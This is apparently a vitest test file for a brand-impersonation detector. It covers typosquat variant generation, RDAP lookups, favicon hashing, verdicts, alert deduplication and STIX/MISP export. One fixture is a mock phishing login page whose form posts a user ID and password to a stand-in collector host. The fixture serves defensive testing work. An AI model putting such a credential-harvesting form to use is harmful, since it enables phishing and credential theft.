// A brand run's parts on plain data (pipeline/brand-run.ts, alerting/brand-rules.ts): the
// names asked, the profile with this run's official visits, a visit's verdict with its
// favicon's pHash and its MX, and the alerts: once per fact, one per change.
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { toAlert } from '../../alerting/alert.js';
import { brandFindings, type SeenVariant } from '../../alerting/brand-rules.js';
import { perceptualHash } from '../../crawler/phash.js';
import { toMispEvent } from '../../exchange/misp.js';
import { toStixBundle } from '../../exchange/stix.js';
import type { ImpersonationEvent } from '../../extractor/events.js';
import type { BrandProfile } from '../../extractor/impersonation.js';
import { brandNames, judgeVisit, ORIGINAL, registrationsOf, withOfficialVisits } from '../../pipeline/brand-run.js';
import { parseBootstrap } from '../../seeds/rdap.js';
import { domainVariants } from '../../seeds/variants.js';
import { ACME_BANK } from '../../internet/scenarios/brand-lookalikes.js';
import { quietLog } from '../helpers/harness.js';
import { pageVisit } from '../helpers/page-visit.js';
import { startRdapServer } from '../../internet/rdap-server.js';

const BRAND: BrandProfile = {
  name: 'acme-bank',
  domains: ['acmebank.test'],
  keywords: ['AcmePay'],
  logo_phashes: [],
  screenshot_phashes: [],
  favicon_mmh3: [],
};

const LOGIN = `<html><title>Acme Bank - Sign in</title><body><h1>Welcome to Acme Bank</h1>
  <form action="https://collect.drop.test/p.php" method="post"><label>AcmePay user ID</label><input name="u">
  <input type="password" name="p"><button>Sign in</button></form></body></html>`;
const PARKED = '<html><title>For sale</title><body><h1>This domain is for sale!</h1></body></html>';
const GARDEN = '<html><title>Allotment diary</title><body><p>The courgettes have won.</p></body></html>';

const NO_DNS = { mx: [], ns: [] };

async function judged(domain: string, html: string, fuzzer = 'replacement'): Promise<ImpersonationEvent> {
  return judgeVisit(BRAND, { domain, fuzzer, ...NO_DNS }, { ...pageVisit(domain, html), cloaking: false }, null);
}

describe('the names a brand run asks', () => {
  it('are the official domains (first, as *original) and their variants, each once, none under an official domain', () => {
    const names = brandNames(['acmebank.test', 'acme.test']);
    expect(names.slice(0, 2)).toEqual([
      { domain: 'acmebank.test', fuzzer: ORIGINAL },
      { domain: 'acme.test', fuzzer: ORIGINAL },
    ]);
    const domains = names.map((n) => n.domain);
    expect(new Set(domains).size).toBe(domains.length);
    expect(domains).toContain('acmebamk.test');
    // acmebank.test is a variant of acme.test (addition) and stays official.
    expect(names.filter((n) => n.domain === 'acmebank.test')).toEqual([{ domain: 'acmebank.test', fuzzer: ORIGINAL }]);
    expect(domains.filter((d) => d.endsWith('.acme.test') || d.endsWith('.acmebank.test'))).toEqual([]);
    const variants = new Set([...domainVariants('acmebank.test'), ...domainVariants('acme.test')].map((v) => v.domain));
    expect(names.length).toBe(new Set([...variants, 'acmebank.test', 'acme.test']).size);
  });

  it("include every look-alike of the test internet's brand", () => {
    const fuzzerOf = new Map(brandNames([ACME_BANK.official]).map((n) => [n.domain, n.fuzzer]));
    expect(Object.values(ACME_BANK.lookalikes).map((d) => fuzzerOf.get(d))).toEqual([
      'homoglyph',
      'hyphenation',
      'transposition',
      'omission',
      'homoglyph',
    ]);
  });
});

describe('the registrations a brand run reads', () => {
  it('are looked up for new names and for names whose earlier lookup found nothing; kept for the others', async () => {
    const rdap = await startRdapServer({
      'acmebamk.test': { registrar: 'Cheap Names Inc.', registered: '2026-11-28T00:00:00Z' },
      'acmbank.test': { registrar: 'Garden Domains', registered: '2018-03-01T00:00:00Z' },
    });
    try {
      let bootstraps = 0;
      const o = {
        rdapBootstrap: async () => {
          bootstraps++;
          return parseBootstrap(rdap.bootstrap, 'test');
        },
      };
      const seen = new Map([
        ['acme-bank.test', { registered_at: Date.UTC(2020, 0, 1), registrar: 'Sedo Registrar' }],
        // Found nothing last time (the registry was down): asked again.
        ['acmbank.test', { registered_at: null, registrar: null }],
      ]);
      const names = ['acmebamk.test', 'acme-bank.test', 'acmbank.test', 'slow.acmebank.test'].map((domain) => ({
        domain,
      }));
      const got = await registrationsOf(names, seen, { ...o, rdap: { timeoutMs: 300 } }, quietLog);
      expect(Object.fromEntries(got)).toEqual({
        'acmebamk.test': { registered_at: Date.UTC(2026, 10, 28), registrar: 'Cheap Names Inc.' },
        'acme-bank.test': { registered_at: Date.UTC(2020, 0, 1), registrar: 'Sedo Registrar' },
        'acmbank.test': { registered_at: Date.UTC(2018, 2, 1), registrar: 'Garden Domains' },
        // Its registry does not answer in time: unknown, and the run goes on.
        'slow.acmebank.test': null,
      });
      expect(rdap.requests.map((r) => r.path).sort()).toEqual([
        '/rdap/domain/acmbank.test',
        '/rdap/domain/acmebamk.test',
        '/rdap/domain/slow.acmebank.test',
      ]);
      // Nothing to ask: the bootstrap file is not even read.
      await registrationsOf([{ domain: 'acme-bank.test' }], seen, o, quietLog);
      expect(bootstraps).toBe(1);
    } finally {
      await rdap.close();
    }
  });
});

describe('the profile a brand run judges with', () => {
  it("adds the screenshots and icons of this run's official visits to the store's", () => {
    const official = pageVisit('acmebank.test', LOGIN, {
      page: { screenshot_phash: '00000000000000ff', favicon_mmh3: 42 },
    });
    const p = withOfficialVisits({ ...BRAND, screenshot_phashes: ['ff00000000000000'], favicon_mmh3: [7, 42] }, [
      official,
    ]);
    expect(p.screenshot_phashes).toEqual(['00000000000000ff', 'ff00000000000000']);
    expect(p.favicon_mmh3).toEqual([7, 42]);
  });
});

describe("a visit's verdict", () => {
  it("reads its favicon's perceptual hash against the logos, and its MX", async () => {
    const logo = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#0b4aa2' } })
      .composite([
        {
          input: await sharp({ create: { width: 32, height: 32, channels: 3, background: '#ffffff' } })
            .png()
            .toBuffer(),
          left: 8,
          top: 8,
        },
      ])
      .png()
      .toBuffer();
    const brand = { ...BRAND, logo_phashes: [(await perceptualHash(logo)).phash] };
    const favicon = (bytes: Buffer) => ({
      capture: { favicon: { url: 'https://x/favicon.ico', status: 200, base64: bytes.toString('base64') } },
    });
    const withIcon = pageVisit('acmebamk.test', GARDEN, favicon(logo));
    const e = await judgeVisit(
      brand,
      { domain: 'acmebamk.test', fuzzer: 'replacement', mx: ['mx.acmebamk.test'], ns: [] },
      { ...withIcon, cloaking: false },
      { registered_at: null, registrar: 'Cheap Names Inc.' },
    );
    expect(e.signals.favicon_distance).toBe(0);
    expect(e.signals.mx).toBe(true);
    expect(e.reasons).toEqual(['favicon_alike', 'mx']);
    expect(e.registrar).toBe('Cheap Names Inc.');
    // An icon that is no image: no pHash, and the verdict is still made.
    const broken = pageVisit('acmebamk.test', GARDEN, favicon(Buffer.from('not an image')));
    const b = await judgeVisit(
      brand,
      { domain: 'acmebamk.test', fuzzer: 'x', ...NO_DNS },
      { ...broken, cloaking: false },
      null,
    );
    expect([b.signals.favicon_distance, b.verdict]).toEqual([null, 'unrelated']);
  });
});

describe("a brand run's alerts", () => {
  const seen = (events: ImpersonationEvent[]): Map<string, SeenVariant> =>
    new Map(events.map((e) => [e.domain, { domain: e.domain, verdict: e.verdict }]));
  const facts = (previous: Map<string, SeenVariant>, events: ImpersonationEvent[]) =>
    brandFindings(previous, events).map((f) => `${f.rule} ${f.subject}${f.scope ? ` (${f.scope})` : ''}`);

  it('first run: each look-alike is new, an impersonating one says so too, the official domain raises nothing', async () => {
    const run = [
      await judged('acmebank.test', LOGIN, ORIGINAL),
      await judged('acmebamk.test', LOGIN),
      await judged('acme-bank.test', PARKED, 'hyphenation'),
      await judged('acmbank.test', GARDEN, 'omission'),
    ];
    expect(run.map((e) => e.verdict)).toEqual(['official', 'impersonating', 'parked', 'unrelated']);
    expect(facts(new Map(), run)).toEqual([
      'new-variant acmebamk.test',
      'verdict:impersonating acmebamk.test',
      'new-variant acme-bank.test',
      'new-variant acmbank.test',
    ]);
    // The same verdicts again: nothing new.
    expect(facts(seen(run), run)).toEqual([]);
  });

  it('a change to impersonating is one alert; any other change is a verdict-change', async () => {
    const before = seen([await judged('acmbank.test', GARDEN), await judged('acmebamk.test', LOGIN)]);
    const after = [await judged('acmbank.test', LOGIN), await judged('acmebamk.test', PARKED)];
    const found = brandFindings(before, after);
    expect(found.map((f) => [f.rule, f.subject, f.scope, f.details.from, f.details.to])).toEqual([
      ['verdict:impersonating', 'acmbank.test', '', 'unrelated', 'impersonating'],
      ['verdict-change', 'acmebamk.test', 'impersonating -> parked', 'impersonating', 'parked'],
    ]);
    // The fact, not the run, names the alert: the same change seen by two runs has one key.
    const again = brandFindings(before, after);
    expect(again.map((f) => toAlert('brand', 'acme-bank', f, 1).key)).toEqual(
      found.map((f) => toAlert('brand', 'acme-bank', f, 2).key),
    );
    expect(found[0]!.urls).toEqual(['https://acmbank.test/', 'https://acmbank.test/']);
  });
});

describe("a brand run's alerts in the exports", () => {
  it('are STIX indicators on the domain and MISP domain attributes, as every alert', async () => {
    const [, verdict] = brandFindings(new Map(), [await judged('acmebamk.test', LOGIN)]);
    const alert = toAlert('brand', 'acme-bank', verdict!, Date.UTC(2026, 11, 1));
    const facts = {
      hostPairs: [],
      trackers: [],
      components: [],
      hostIps: [],
      certificates: [],
      resources: [],
      alerts: [alert],
    };
    const labels = { scopeKey: 'alerts', description: 'the alerts', labels: [] };
    const indicator = toStixBundle(facts, labels).objects.find((o) => o.type === 'indicator');
    expect(indicator).toMatchObject({
      name: 'verdict:impersonating: acmebamk.test',
      pattern: "[domain-name:value = 'acmebamk.test']",
    });
    expect(toMispEvent(facts, labels).Event.Attribute).toEqual([
      expect.objectContaining({ type: 'domain', value: 'acmebamk.test', to_ids: true }),
    ]);
  });
});
